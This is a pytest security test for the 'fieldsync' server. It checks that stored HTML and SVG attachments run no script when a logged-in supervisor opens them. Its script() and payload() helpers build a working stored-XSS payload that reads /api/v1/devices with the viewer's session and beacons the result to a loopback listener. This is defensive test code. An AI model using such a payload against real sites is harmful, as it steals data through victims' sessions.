"""Stored attachments run nothing in a supervisor's browser (issue 9, point 1), in a real
headless Chromium against a real ``fieldsync serve``.

A CHW stores an HTML page and an SVG image holding a script that reads
``/api/v1/devices`` with whoever opens it (synchronous XHR, so it is done before the
page's load event) and reports to a listener the test runs on loopback.  A
supervisor, logged in with the session cookie, opens each attachment URL.  The
listener must hear nothing; a control page proves it would have.  A photo still
shows inline.
"""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from browser import Browser
from realserver import DB, PASSWORD, ServerProcess, free_port

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@pytest.fixture
def server_env() -> dict[str, str]:
    # The supervisor reads in a browser, with no device; enrolment is not the subject here.
    return {"FIELDSYNC_REQUIRE_ENROLMENT": "0"}


class Listener:
    """What the attacker's script would report to: every path asked for, in order."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"

    async def handle(self, request: web.Request) -> web.Response:
        self.heard.append(request.path)
        if request.path == "/control":
            return web.Response(text=payload(self.url, "control"), content_type="text/html")
        return web.Response(body=PNG, content_type="image/png")


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    found = Listener()
    app = web.Application()
    app.router.add_get("/{tail:.*}", found.handle)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", found.port).start()
    try:
        yield found
    finally:
        await runner.cleanup()


def script(listener_url: str, name: str) -> str:
    """Read the device list with the viewer's session, then send it to the listener."""
    return (
        f"new Image().src = '{listener_url}/ran/{name}';"
        "var x = new XMLHttpRequest(); x.open('GET', '/api/v1/devices', false); x.send();"
        f"new Image().src = '{listener_url}/stolen/{name}/' + x.status;"
        f"document.title = 'RAN {name}';"
    )


def payload(listener_url: str, name: str) -> str:
    return f"<!doctype html><title>{name}</title><script>{script(listener_url, name)}</script>"


def svg(listener_url: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f"<script>{script(listener_url, 'svg')}</script></svg>"
    )


def inline(text: str | bytes, kind: str) -> dict[str, str]:
    data = text.encode() if isinstance(text, str) else text
    return {"content_type": kind, "data": base64.b64encode(data).decode()}


async def store_as_chw(server: ServerProcess, listener: Listener) -> None:
    doc: dict[str, Any] = {
        "_id": "visit-1",
        "type": "visit",
        "place": "area-a1",
        "_attachments": {
            "note.html": inline(payload(listener.url, "html"), "text/html"),
            "drawing.svg": inline(svg(listener.url), "image/svg+xml"),
            "wound.png": inline(PNG, "image/png"),
        },
    }
    basic = base64.b64encode(f"alice:{PASSWORD}".encode()).decode()
    async with (
        aiohttp.ClientSession(headers={"Authorization": f"Basic {basic}"}) as chw,
        chw.put(f"{server.url}/{DB}/visit-1", json=doc) as resp,
    ):
        assert resp.status == 201, await resp.text()


async def log_in(browser: Browser, server: ServerProcess, name: str) -> None:
    await browser.goto(f"{server.url}/supervisor/login")
    await browser.fill({"#name": name, "#password": PASSWORD})
    await browser.click("form[action='/supervisor/login'] button[type=submit]")
    assert await browser.js("location.pathname") == "/supervisor/workers"


@pytest.mark.parametrize(
    ("viewer", "name"),
    [("sam", "note.html"), ("sam", "drawing.svg"), ("admin", "note.html")],
)
async def test_a_stored_html_or_svg_attachment_runs_nothing_for_a_supervisor(
    org: ServerProcess, browser: Browser, listener: Listener, viewer: str, name: str
) -> None:
    # The listener sees a script that runs: a control page on its own origin.
    assert await browser.open(f"{listener.url}/control") is None
    assert {"/ran/control", "/stolen/control/200"} <= set(listener.heard), listener.heard
    listener.heard.clear()

    await store_as_chw(org, listener)
    await log_in(browser, org, viewer)
    await browser.open(f"{org.url}/{DB}/visit-1/{name}")  # a download now: no page, no script
    assert not str(await browser.js("document.title")).startswith("RAN")
    # Images delay the load event: whatever the attachment sent has been heard by now.
    reports = [p for p in listener.heard if p.startswith(("/ran/", "/stolen/"))]
    assert reports == []


async def test_a_photo_attachment_still_shows_in_the_browser(
    org: ServerProcess, browser: Browser, listener: Listener
) -> None:
    await store_as_chw(org, listener)
    await log_in(browser, org, "sam")
    assert await browser.open(f"{org.url}/{DB}/visit-1/wound.png") is None
    assert await browser.js("document.images.length && document.images[0].naturalWidth") == 1
